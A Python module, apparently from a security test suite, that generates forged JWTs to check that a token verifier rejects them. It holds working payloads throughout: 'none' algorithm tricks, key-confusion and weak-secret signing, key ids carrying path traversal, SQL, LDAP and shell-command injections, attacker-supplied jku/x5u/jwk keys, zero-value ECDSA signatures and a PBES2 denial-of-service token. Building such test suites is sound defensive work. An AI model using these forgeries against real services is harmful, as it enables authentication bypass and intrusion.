"""Tokens as attackers make them, from one genuine token and the keys that its issuer publishes."""

import base64
import hashlib
import itertools
import json
from collections.abc import Iterable, Iterator
from typing import Any, Final

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from joserfc import jwe
from joserfc.jwk import OctKey, RSAKey
from support.issuer import encoded, private_key, public_jwk

from attack.genuine import HASHES, Genuine, decoded

SECRETS: Final = (
    *("", " ", "\0", "0", "1", "a", "secret", "Secret", "secret123", "secretkey", "secret_key", "your-256-bit-secret"),
    *("your-384-bit-secret", "your-512-bit-secret", "password", "changeme", "admin", "key", "private", "jwt", "token"),
    *("test", "dev", "null", "undefined", "None", "supersecret", "my_secret", "mysecretkey", "HS256", "hs256-secret"),
    *("tenantgate", "mcp", "qwerty", "123456", "0" * 32, "A" * 32, "\0" * 32, "default", "example", "development"),
)
_ORDER_OF_P256: Final = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def forgeries(genuine: Genuine) -> Iterator[tuple[str, str, str]]:
    """Yield the kind, the name and the token of each forgery."""
    for kind, made in {
        "no algorithm": no_algorithm(genuine),
        "the public key as a secret": public_key_as_secret(genuine),
        "a weak secret": ((repr(secret), genuine.by_secret(secret.encode())) for secret in SECRETS),
        "a key id that finds another key": key_ids(genuine),
        "a key that the token brings": brought_keys(genuine),
        "an issuer of the attacker's": own_issuers(genuine),
        "a signature of zeros": zeros(genuine),
        "no signature": stripped(genuine),
        "encrypted": encrypted(genuine),
    }.items():
        for name, token in made:
            yield kind, name, token


def no_algorithm(genuine: Genuine) -> Iterator[tuple[str, str]]:
    """Every letter case of `none` and what parsers take for it, each with three signatures."""
    cases = {"".join(one) for one in itertools.product(*((letter, letter.upper()) for letter in "none"))}
    for name in (*sorted(cases), " none", "none ", "none\0", "non\u0435", "", "null", "false", "undefined", "plain"):
        message = genuine.unsigned(genuine.with_header(alg=name))
        for what, signature in {"none": "", "genuine": genuine.token.split(".")[2], "wrong": "AAAA"}.items():
            yield f"{name!r}, signature {what}", f"{message}.{signature}"


def public_key_as_secret(genuine: Genuine) -> Iterator[tuple[str, str]]:
    """Every way to write the published key, each as the secret of three algorithms (CVE-2016-5431 and its like)."""
    for (name, secret), algorithm in itertools.product(written(genuine.public, genuine.keys), HASHES):
        yield f"{algorithm}, {name}", genuine.by_secret(secret, alg=algorithm)
        yield f"{algorithm}, {name}, no kid", genuine.by_secret(secret, alg=algorithm, kid=None)


def written(public: Any, keys: list[dict[str, Any]]) -> Iterator[tuple[str, bytes]]:
    """Yield the bytes that a careless verifier may have in its hand."""
    for name, form in {"SPKI": PublicFormat.SubjectPublicKeyInfo, "PKCS1": PublicFormat.PKCS1}.items():
        text = public.public_bytes(Encoding.PEM, form)
        lines = text.decode().splitlines()
        yield f"{name} PEM", text
        yield f"{name} PEM without its last newline", text.rstrip(b"\n")
        yield f"{name} PEM with CRLF", text.replace(b"\n", b"\r\n")
        yield f"{name} PEM in one line", "".join(lines[1:-1]).encode()
        yield f"{name} PEM with written newlines", text.replace(b"\n", b"\\n")
        yield f"{name} DER", public.public_bytes(Encoding.DER, form)
    key = keys[0]
    for name, value in {"JWK": key, "key set": {"keys": keys}}.items():
        yield name, json.dumps(value).encode()
        yield f"{name} without spaces", json.dumps(value, separators=(",", ":")).encode()
        yield f"{name} sorted", json.dumps(value, separators=(",", ":"), sort_keys=True).encode()
    yield "modulus", decoded(key["n"])
    yield "modulus as text", key["n"].encode()
    yield "key id", str(key["kid"]).encode()


def key_ids(genuine: Genuine) -> Iterator[tuple[str, str]]:
    """Key ids that are paths, statements, commands or no texts, with the secret that they would lead to."""
    found: dict[str, tuple[Any, bytes]] = {
        "an empty file": ("../../../../../../dev/null", b""),
        "an empty file, absolute": ("/dev/null", b""),
        "a file of the system": ("/proc/sys/kernel/randomize_va_space", b"2\n"),
        "a file URL": ("file:///dev/null", b""),
        "a file with NUL": ("/dev/null\0.pem", b""),
        "SQL": ("x' UNION SELECT 'known' -- ", b"known"),
        "SQL with double quotes": ('x" UNION SELECT "known" -- ', b"known"),
        "SQL of a number": ("0 UNION SELECT 'known'", b"known"),
        "LDAP": ("*)(uid=*", b"known"),
        "a command": ("first|echo known", b"known"),
        "a command in parentheses": ("$(echo known)", b"known"),
        "a template": ("{{7*7}}", b"49"),
        "a URL": (f"{genuine.server.url}/jwks.json", b"known"),
        "null": (None, b""),
        "a number": (0, b""),
        "a list": (["first"], b""),
        "an object": ({"kid": "first"}, b""),
        "a prototype": ("__proto__", b"[object Object]"),
        "a constructor": ("constructor", b"function Object() { [native code] }"),
        "4 KB": ("first" * 800, b""),
    }
    for name, (key_id, secret) in found.items():
        yield name, genuine.by_secret(secret, kid=key_id)
        yield f"{name}, signed", genuine.by_own_key(kid=key_id)


def brought_keys(genuine: Genuine) -> Iterator[tuple[str, str]]:
    """Keys, and addresses of keys, in the header: the server that they name must never be asked."""
    own = public_jwk(private_key("RSA", "of the attacker"), "first", alg="RS256")
    evil = genuine.server.url
    authority = evil.removeprefix("http://")
    issuer = json.loads(genuine.wanted)["iss"]
    addresses = {
        "address": f"{evil}/jwks.json",
        "address with the issuer as user": f"{issuer}@{authority}/jwks.json",
        "address with the issuer behind it": f"{evil}/jwks.json#{issuer}",
        "address with the issuer as query": f"{evil}/jwks.json?{issuer}",
        "address without a scheme": f"//{authority}/jwks.json",
        "file": "file:///dev/null",
    }
    for member, (name, address) in itertools.product(("jku", "x5u"), addresses.items()):
        yield f"{member}, {name}", genuine.by_own_key(**{member: address})
        yield f"{member}, {name}, kid another", genuine.by_own_key(**{member: address, "kid": "of the attacker"})
    certificate = base64.b64encode(decoded(own["n"])).decode()
    for name, members in {
        "jwk": {"jwk": own},
        "jwk with the genuine kid, no kid outside": {"jwk": own, "kid": None},
        "jwk as text": {"jwk": json.dumps(own)},
        "jwk, critical": {"jwk": own, "crit": ["jwk"]},
        "x5c": {"x5c": [certificate]},
        "x5c as text": {"x5c": certificate},
        "x5t": {"x5t": "AAAA", "jwk": own},
        "all": {"jwk": own, "x5c": [certificate], "jku": f"{evil}/jwks.json", "x5u": f"{evil}/jwks.json"},
        "none of them": {},
    }.items():
        yield name, genuine.by_own_key(**members)


def own_issuers(genuine: Genuine) -> Iterator[tuple[str, str]]:
    """An issuer that the attacker runs, with discovery and keys, under names that resemble the genuine one."""
    evil, issuer = genuine.server.url, json.loads(genuine.wanted)["iss"]
    for name in (evil, f"{evil}/{issuer}", f"{issuer}@{evil.removeprefix('http://')}", [evil, issuer], {"iss": evil}):
        yield str(name)[:60], genuine.by_own_key(claims={"iss": name})
        yield f"{str(name)[:60]}, kid another", genuine.by_own_key(claims={"iss": name}, kid="of the attacker")


def zeros(genuine: Genuine) -> Iterator[tuple[str, str]]:
    """Signatures that hold for every message where a check is forgotten (CVE-2022-21449 and its like)."""
    order = _ORDER_OF_P256.to_bytes(32, "big")
    one = (1).to_bytes(32, "big")
    pairs = {
        "0, 0": bytes(64),
        "n, n": order * 2,
        "1, 0": one + bytes(32),
        "0, 1": bytes(32) + one,
        "1, n": one + order,
    }
    ec_forms: Iterable[tuple[str, bytes]] = (
        *pairs.items(),
        ("DER of 0, 0", bytes.fromhex("3006020100020100")),
        ("96 zeros", bytes(96)),
        ("one zero", b"\0"),
    )
    for (name, signature), key_id in itertools.product(ec_forms, ("curve", "first", None)):
        message = genuine.unsigned(genuine.with_header(alg="ES256", kid=key_id))
        yield f"ES256 {name}, kid {key_id}", f"{message}.{encoded(signature)}"
    # As if the public exponent were 3, or the padding not looked at.
    digest = hashlib.sha256(genuine.unsigned(genuine.header).encode()).digest()
    known = bytes.fromhex("0001ff003031300d060960864801650304020105000420") + digest
    for name, signature in {"zeros": bytes(256), "one": bytes(255) + b"\1", "padded": known.ljust(256, b"\0")}.items():
        yield f"RS256 {name}", f"{genuine.unsigned(genuine.header)}.{encoded(signature)}"


def stripped(genuine: Genuine) -> Iterator[tuple[str, str]]:
    """The signature left out, in every place where a separator may stand; and changed claims under the genuine one."""
    header, claims, signature = genuine.token.split(".")
    wanted = encoded(genuine.wanted)
    for token in (
        f"{header}.{wanted}",
        f"{header}.{wanted}.",
        f"{header}.{wanted}..",
        f".{wanted}.",
        f"{header}..{signature}",
    ):
        yield token.replace(header, "H").replace(wanted, "C").replace(signature, "S"), token
    for name, token in {
        "changed claims": f"{header}.{wanted}.{signature}",
        "changed claims, signed twice": f"{header}.{wanted}.{signature}.{signature}",
        "changed claims before the genuine ones": f"{header}.{wanted}.{claims}.{signature}",
        "a token of claims alone": wanted,
        "JSON": json.dumps({"payload": wanted, "protected": header, "signature": signature}),
        "flattened JSON, unprotected": json.dumps({"payload": wanted, "header": {"alg": "none"}, "signature": ""}),
    }.items():
        yield name, token


def encrypted(genuine: Genuine) -> Iterator[tuple[str, str]]:
    """Claims encrypted to the published key, which anybody can do; and an encryption that is long to undo."""
    key = RSAKey.import_key({**genuine.keys[0], "use": "enc", "alg": "RSA-OAEP-256"})
    inner = {"claims": genuine.wanted, "unsigned": f"{genuine.unsigned({'alg': 'none'})}.".encode()}
    for name, plain in inner.items():
        header = {"alg": "RSA-OAEP-256", "enc": "A256GCM", "kid": "first", "cty": "JWT"}
        yield (
            f"to the published key, {name}",
            jwe.encrypt_compact(header, plain, key, algorithms=["RSA-OAEP-256", "A256GCM"]),
        )
    secret = OctKey.import_key(b"0" * 32)
    yield (
        "dir",
        jwe.encrypt_compact({"alg": "dir", "enc": "A256GCM"}, genuine.wanted, secret, algorithms=["dir", "A256GCM"]),
    )
    slow = {"alg": "PBES2-HS256+A128KW", "enc": "A128GCM", "p2s": encoded(b"salt" * 4), "p2c": 2**31 - 1}
    yield "PBES2 with two milliards of rounds", f"{encoded(json.dumps(slow).encode())}.AAAA.AAAA.AAAA.AAAA"
